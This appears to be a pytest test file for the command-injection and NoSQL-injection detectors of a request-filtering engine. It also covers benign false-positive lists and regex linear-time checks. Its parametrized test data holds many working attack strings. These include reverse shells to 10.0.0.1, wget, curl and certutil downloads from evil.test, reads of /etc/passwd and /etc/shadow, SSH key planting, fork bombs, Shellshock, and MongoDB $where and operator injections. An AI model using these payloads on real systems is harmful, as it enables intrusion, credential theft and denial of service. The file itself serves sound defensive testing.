"""commandInjection and nosqlInjection (issue 24, class 6): many variants of each attack form,
a false-positive regression list of tricky benign strings, the gates, and linear time by
construction (every regex's shape) with 1 MB hostile inputs that must be decided."""

from __future__ import annotations

import itertools
import re
from types import ModuleType
from typing import Any

import pytest
from _bounded import check_regex_shape
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from extauthz.decision import RuleHit
from extauthz.engine import vulnerability as v
from extauthz.engine.checks import command_injection as ci
from extauthz.engine.checks import nosql_injection as nq

CFG = v.VulnerabilityConfig(command_injection=v.Check(True), nosql_injection=v.Check(True))
CMD = ci.command_reason
NOSQL = nq.nosql_value_reason


def hits(body: Any, query: dict[str, str] | None = None) -> list[str]:
    found: list[RuleHit] = []
    v.check(CFG, body, query or {}, False, found)
    return [h.id for h in found]


# --- command injection: attack forms -----------------------------------------------------

SEPARATORS = [";", "; ", "&", " & ", "&&", " && ", "|", " | ", "||", " || ", "\n", "\r\n"]
COMMANDS = [
    "cat /etc/passwd", "id", "whoami", "uname -a", "ls -la", "wget http://evil.test/x",
    "curl evil.test", "nc -e /bin/sh 10.0.0.1 4444", "sleep 10", "ping -c 10 127.0.0.1",
    "/usr/bin/id", "/bin/cat /etc/shadow", "bash -i", "python3 -c 'import os'",
    "powershell -enc AAAA", "net user hacker P@ss /add", "ipconfig /all", "type C:\\boot.ini",
]  # fmt: skip


@pytest.mark.parametrize(("sep", "command"), list(itertools.product(SEPARATORS, COMMANDS)), ids=str)
def test_a_separator_then_a_command(sep: str, command: str) -> None:
    for prefix in ("", "x", "report.pdf", "127.0.0.1"):
        payload = prefix + sep + command
        if payload == "x|id":
            # A plain word, "|", a command word alone: read as an enumeration ("json|yaml").
            assert CMD(payload) is None
            continue
        assert CMD(payload) is not None, repr(payload)


@pytest.mark.parametrize(
    "payload",
    [
        # substitution, process substitution, backticks (glued or the whole value)
        "$(whoami)", "$( id )", "name=$(cat /etc/passwd)", "$(`cat /etc/passwd`)",
        "<(cat /etc/passwd)", ">(tee /tmp/x)", "`id`", "`cat /etc/shadow`", "x`whoami`",
        "`whoami`.evil.test", "${`id`}",
        # $IFS and other expansions that only hide a command
        "${IFS}cat${IFS}/etc/passwd", ";cat$IFS/etc/passwd", "x;cat${IFS%??}/etc/passwd",
        "${PATH:0:1}etc${PATH:0:1}passwd", "c$@at /etc/passwd", "w$()hoami", "ca$*t x",
        "a=/etc&&b=/passwd&&c=cat&&$c $a$b", ";$c1$c2$c3",
        # brace expansion, subshells, groups
        ";{cat,/etc/passwd}", "{cat,/etc/passwd}", "&&(sh)0>/dev/tcp/10.0.0.1/4444",
        "; (id)", ";{ls,-la}",
        # redirections
        "x > /etc/crontab", "x >> /etc/passwd", "x < /etc/shadow", "x 2>&1 >/dev/tcp/1.2.3.4/80",
        "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "cat<<<ifconfig",
        # quoting tricks and escapes that shells remove
        ";c'a't /etc/passwd", ';c"a"t /etc/passwd', ";c\\at /etc/passwd", ";\\ls -la",
        ';""w""h""o""a""m""i', ";'curl' http://evil.test", "|w^h^o^a^m^i",
        # wildcards
        ";/???/??t /???/p??s??", "|/bi?/ca? /et?/pass*", ";/bin/c[a]t /etc/passwd",
        # newline forms, plain and percent-encoded (once, twice)
        "x\nid", "x\r\nwhoami", "x%0aid", "x%0Acat%20/etc/passwd", "x%250aid", "x%3bid",
        # Windows: cmd.exe, %COMSPEC%, PowerShell
        "& %COMSPEC% /c whoami", "& cmd.exe /c dir", "| powershell IEX(x)",
        "; Invoke-WebRequest http://evil.test", "& reg add HKLM\\x /v y", "&& net localgroup x",
        "& FOR %a IN (a,b,c) DO cmd", "|certutil -urlcache -f http://evil.test x.exe",
        # Shellshock, SSI, reverse shells
        "() { :;}; /bin/bash -c id", "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->",
        "x; nc 10.0.0.1 4444 -e sh",
        # unknown commands with options, chained commands
        ";perf --version", ";date -f secrets.txt", "cd /;cd etc;column passwd",
        # glued and alone at the end
        ";id;", "|id", "a;id", "&id&", "; pwd", "&& dir",
        # redirections glued to the command, into the home directory
        "cat</etc/passwd", "id>/tmp/x", "x;id>>/tmp/out", "echo x >> ~/.bashrc",
        "echo key >> ~/.ssh/authorized_keys", "x > $HOME/.profile",
        # a time-based probe ending in a shell comment
        "; sleep 5 #", "x|| ping -c 10 127.0.0.1 #",
        # fork bombs: a function piped into itself in the background
        ":(){ :|:& };:", "f(){ f|f& };f", "test() { test | test & } test", ".(){ .|.& };.",
        # the user's shell run with a command string
        '$SHELL -c "echo hi"', "${SHELL} -c id",
        # brace expansion with an empty element
        "{,ifconfig,eth0}", "{id,}", "{,echo,#test}", "{,cd,/etc,}",
        # empty process substitutions inside a word
        "pi<()ng 127.0.0.1", "who>()ami",
        # quoted command names with options, a short option and its value
        ";'rmt' --version", ';"rmt" --version', ";lastlogin -u admin",
        # tools that are never prose
        "time; ansible-console", ";rmt-tar", ";ssh-copy-id user@server", "&aptitude", ";htop",
        # SMTP commands smuggled after a CRLF into a mail header or body
        "\r\nMAIL FROM:<a@b.com>", "x\r\nRCPT TO:<postmaster>",
    ],
)  # fmt: skip
def test_command_injection_forms(payload: str) -> None:
    assert CMD(payload) is not None, payload
    assert hits({"comment": payload}) == [v.COMMAND_INJECTION], payload


# Benign strings that look like the attacks above: prose with separators and command words,
# technical prose, markdown, reStructuredText, code mentions. None may fire.
BENIGN = [
    "Tom & Jerry; the classic cartoon duo.", "I love cats; cat food is expensive though.",
    "Meet me at 5; sleep well tonight.", "Eat; sleep; repeat", "Rock & roll | blues | jazz",
    "A&W root beer", "I like A&W", "Q&A; R&D; AT&T", "Price: $5 (approx.) & free shipping.",
    "She paid $(USD) 20 for the book.", "Add salt; echo chamber effects are common online.",
    "Notes; ls. (That was a typo.)", "The word rm means room; rm 204 is free.",
    "Kill switch; the emergency stop button.", "more | less", "json|yaml|python",
    "| id | name | type |", "| metric | type | unit |\n|---|---|---|\n| id | counter | 1 |",
    "|python| |version| |ci|", ".. |python| image:: https://img.shields.io/x.svg",
    "Run `ls -la` to list the files.", "Use `curl` to fetch it.", "the `id` field",
    "Its `SET`s are sent together.", "``uname`` prints the system name", "(`chmod`)",
    "`who --login', not `who --lookup'", "$(document).ready(function () {})",
    "$(this).hide()", "Hello ${name}, welcome!", "orjson-${version}.tar.gz",
    "Install with pip; python 3.11 or later is required.", "We use Go; Python for scripts.",
    "the debian/binutils.{postinst,postrm} scripts", "bz{more,less,grep} were added",
    "source <your-env>/bin/activate", "closes: #341159. Fixed /usr/bin/$i -> /bin/$i symlink",
    "don't; won't; can't", "It's 10%; not 20%.", "a -> b -> c", "x >= 5 && y <= 3",
    "if (a && b) { return c; }", "foo(); bar(); baz();", "color:red;display:none",
    "Mom & Dad | Grandma & Grandpa", "Salt & pepper; we have the rest.",
    "Wait for it; then find the answer.", "Dinner at 8 & drinks after; RSVP by Friday.",
    "Contact: sales@example.com; support@example.com", "First; second; third; fourth.",
    "He said: \"done; id est finished.\"", "the ping-pong table; tennis next",
    "data:image/svg+xml;base64,PHN2Zz4=", "Fixed the bug\nsleep mode works now",
    "YunQiang\nSu). Address", "line one\ncat food again\nline three",
    "costs $5; $10 with tax", "Use the --force flag only when needed; see --help.",
    "a < b", "x > y", "I <3 you > them", "Price: 5 > 3 and 2 < 4", "see the {a,b} set",
    "function f() { return a || b; }", "Item 5; sleep 3 hours a day #health",
    "Go home; rest -- then come back", "- date accepts --rfc-2822; use --retry instead",
    "Add typing to ``dirsnapshot``s and ``class``es", "Mail from: John\r\nto: Ann",
    "Ran 'aclocal; autoconf' by hand", "<b>bold</b>", "a->b; c<-d",
]  # fmt: skip


@pytest.mark.parametrize("text", BENIGN)
def test_benign_strings_do_not_fire(text: str) -> None:
    assert CMD(text) is None, (text, CMD(text))
    assert NOSQL(text) is None, (text, NOSQL(text))


_WORD = st.text(st.sampled_from("abcdefghijklmnopqrstuvwxyz"), min_size=1, max_size=8)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(
    before=st.text(st.sampled_from("abc xyz.,-0123456789"), max_size=12),
    sep=st.sampled_from([";", "&&", "||", "|", "\n", "&", "%0a", "%3b"]),
    pad=st.sampled_from(["", " ", "  ", "\t"]),
    command=st.sampled_from(["whoami", "uname -a", "cat /etc/passwd", "/usr/bin/id", "id;"]),
    obfuscate=st.sampled_from(["", "quote", "dquote", "caret", "dollar_at"]),
)
def test_generated_injections(
    before: str, sep: str, pad: str, command: str, obfuscate: str
) -> None:
    word, _, rest = command.partition(" ")
    if obfuscate and len(word) > 2 and word[0] != "/":
        mark = {"quote": "''", "dquote": '""', "caret": "^", "dollar_at": "$@"}[obfuscate]
        word = word[0] + mark + word[1:]
    payload = f"{before}{sep}{pad}{word}{' ' + rest if rest else ''}"
    assert CMD(payload) is not None, payload


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.lists(_WORD, min_size=1, max_size=12), st.sampled_from([";", "&", "|", ",", "."]))
def test_generated_prose_with_separators(words: list[str], punct: str) -> None:
    # Lower-case words, separators between them, no argument-like token: never a command.
    text = f"{punct} ".join(" ".join(words[i : i + 3]) for i in range(0, len(words), 3))
    assert CMD(text) is None, text


# --- NoSQL injection ---------------------------------------------------------------------

UPDATE_OPERATORS = [
    "$set", "$unset", "$rename", "$inc", "$push", "$pull", "$addToSet", "$pop", "$mul",
    "$min", "$max", "$currentDate", "$setOnInsert", "$bit", "$pullAll", "$each",
]  # fmt: skip
EVALUATION_OPERATORS = [
    "$where", "$expr", "$function", "$accumulator", "$lookup", "$merge", "$out", "$graphLookup",
    "$unionWith", "$group", "$project", "$match", "$jsonSchema", "$regex", "$text", "$mod",
]  # fmt: skip
OPERATORS = [*UPDATE_OPERATORS, *EVALUATION_OPERATORS, "$ne", "$gt", "$in", "$or", "$nin"]


@pytest.mark.parametrize("op", OPERATORS)
def test_operator_in_every_place(op: str) -> None:
    assert hits({op: {"role": "admin"}}) == [v.NOSQL_INJECTION], op
    assert hits({"user": [{"x": {op: 1}}]}) == [v.NOSQL_INJECTION], op
    assert hits({}, {f"user[{op}]": "1"}) == [v.NOSQL_INJECTION], op  # qs, PHP, Rack
    assert hits({}, {f"user[0][{op}]": "1"}) == [v.NOSQL_INJECTION], op
    assert hits({}, {f"user.{op}": "1"}) == [v.NOSQL_INJECTION], op  # qs allowDots
    assert hits({"q": op}) == [v.NOSQL_INJECTION], op  # a bare operator value
    assert hits({"q": f'{{"{op}": 1}}'}) == [v.NOSQL_INJECTION], op  # JSON in a string
    assert hits({"q": f"{{ {op}: 1 }}"}) == [v.NOSQL_INJECTION], op  # a JS object literal
    assert hits({"q": f"[{op}]=1"}) == [v.NOSQL_INJECTION], op
    escaped = op.replace("$", "\\u0024")
    assert hits({"q": f'{{"{escaped}": 1}}'}) == [v.NOSQL_INJECTION], op  # JSON.parse decodes
    assert hits({op.upper(): 1}) == [v.NOSQL_INJECTION], op  # case: flagged, never missed
    assert hits({}, {f"user%5B%24{op[1:]}%5D": "1"}) == [v.NOSQL_INJECTION], op  # decoded twice
    fullwidth = "\uff04" + "".join(chr(ord(c) + 0xFEE0) for c in op[1:])
    assert hits({fullwidth: 1}) == [v.NOSQL_INJECTION], op  # NFKC folds it to the operator


@pytest.mark.parametrize(
    "payload",
    [
        "' && this.password.match(/.*/)//", "'; return true; var x='", "0;return true",
        "';sleep(5000);", "\";return(true);var xyz='a", "' || 'a'=='a", "|| 1==1",
        "db.users.drop()", "db.injection.insert({success:1});",
        "';it=new Date();do{pt=new Date();}while(pt-it<5000);", "true, $where: '1 == 1'",
        "', $or: [ {}, { 'a':'a", "$where: '1 == 1'", "{$gt: ''}",
    ],
)  # fmt: skip
def test_nosql_javascript_and_literals(payload: str) -> None:
    assert NOSQL(payload) is not None, payload


@pytest.mark.parametrize(
    "text",
    [
        "$5",
        "costs $ne",
        "$existingUser",
        "$existsor",
        "the $set of options",
        "Use $HOME/bin",
        "return to the menu; return true if so",
        "a || b",
        "x && y",
        "while (true) is a loop",
        "the db.example.com host",
        "$100: the fee",
        "He's here; it's 'fine'",
    ],
)
def test_nosql_benign(text: str) -> None:
    assert NOSQL(text) is None, text
    assert hits({text: 1}) == [], text


# --- gates: a detector without one of its triggers never fires -------------------------


def _generated_strings() -> list[str]:
    out = list(BENIGN)
    out += [s + c for s, c in itertools.product(SEPARATORS, COMMANDS)]
    out += [op for op in OPERATORS] + [f'{{"{op}": 1}}' for op in OPERATORS]
    out += test_command_injection_forms.pytestmark[0].args[1]
    out += test_nosql_javascript_and_literals.pytestmark[0].args[1]
    return out


def test_triggers_cover_every_string_that_fires() -> None:
    fired = 0
    for text in _generated_strings():
        for detect, triggers in v.TRIGGERS.items():
            if detect is nq._nosql_key:
                why = detect(text, None)
            elif detect in (CMD, NOSQL):
                why = detect(text)
            else:
                continue
            if why is not None:
                fired += 1
                assert any(t in text for t in triggers), (detect.__name__, text)
    assert fired > 300


# --- linear time by construction -----------------------------------------------------------


def _regexes(module: ModuleType) -> dict[str, re.Pattern[str]]:
    return {k: r for k, r in vars(module).items() if isinstance(r, re.Pattern)}


@pytest.mark.parametrize("module", [ci, nq], ids=lambda m: m.__name__.rsplit(".", 1)[1])
def test_every_regex_is_linear_by_construction(module: ModuleType) -> None:
    found = _regexes(module)
    assert len(found) >= 5
    for name, regex in found.items():
        check_regex_shape(regex, f"{module.__name__}.{name}")


@pytest.mark.parametrize(
    "pattern", [r"(a+)+$", r"(a|aa)*b", r"a*a*b", r"\s*#", r"(ab)*c", r"x{1000}", r"(a{200}){200}"]
)
def test_the_shape_check_refuses_backtracking_shapes(pattern: str) -> None:
    with pytest.raises(AssertionError):
        check_regex_shape(re.compile(pattern), pattern)


MB = 1_000_000
PATHOLOGICAL = {
    "semicolons": ";" * MB, "separator then letters": "; " + "a" * MB, "backticks": "`id " * (MB // 4),
    "substitutions": "$(" * (MB // 2), "pipe then spaces": "|" + " " * MB + "x",
    "glued commands": ";a" * (MB // 2), "braces": "{cat," * (MB // 5), "newlines": "\n" * MB,
    "encoded newlines": "%0a" * (MB // 3), "special parameters": "a$@" * (MB // 3),
    "quotes in words": "c'a't" * (MB // 5), "dollars": "$" * MB, "operators": '{"$ne":' * (MB // 7),
    "brackets": "[$ne]" * (MB // 5), "js": "' && " * (MB // 5), "escapes": "\\u0024" * (MB // 6),
    "return": ";return " * (MB // 8), "db": "db." * (MB // 3), "cells": "| id " * (MB // 5),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(PATHOLOGICAL))
def test_pathological_megabyte_inputs_are_decided(name: str) -> None:
    """Not timed (the regex shapes above bound the work): each must come back with an answer."""
    text = PATHOLOGICAL[name]
    for detect in (CMD, NOSQL, nq.nosql_key_reason):
        answer = detect(text)
        assert answer is None or isinstance(answer, str)
    assert set(hits({"f": text, text[:1000]: 1})) <= {v.COMMAND_INJECTION, v.NOSQL_INJECTION}


def test_hits_name_the_form_found() -> None:
    assert CMD("x; cat /etc/passwd") == "shell command 'cat' after ';'"
    assert CMD("x%0aid;") == "shell command 'id' after '\\n' (percent-encoded)"
    assert nq.nosql_key_reason("a[$set]") == "operator key 'a[$set]'"
    assert NOSQL('{"\\u0024where": "1"}') == "embedded operator '$where'"


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=300))
def test_any_text_gets_an_answer(text: str) -> None:
    for detect in (CMD, NOSQL, nq.nosql_key_reason):
        answer = detect(text)
        assert answer is None or isinstance(answer, str)
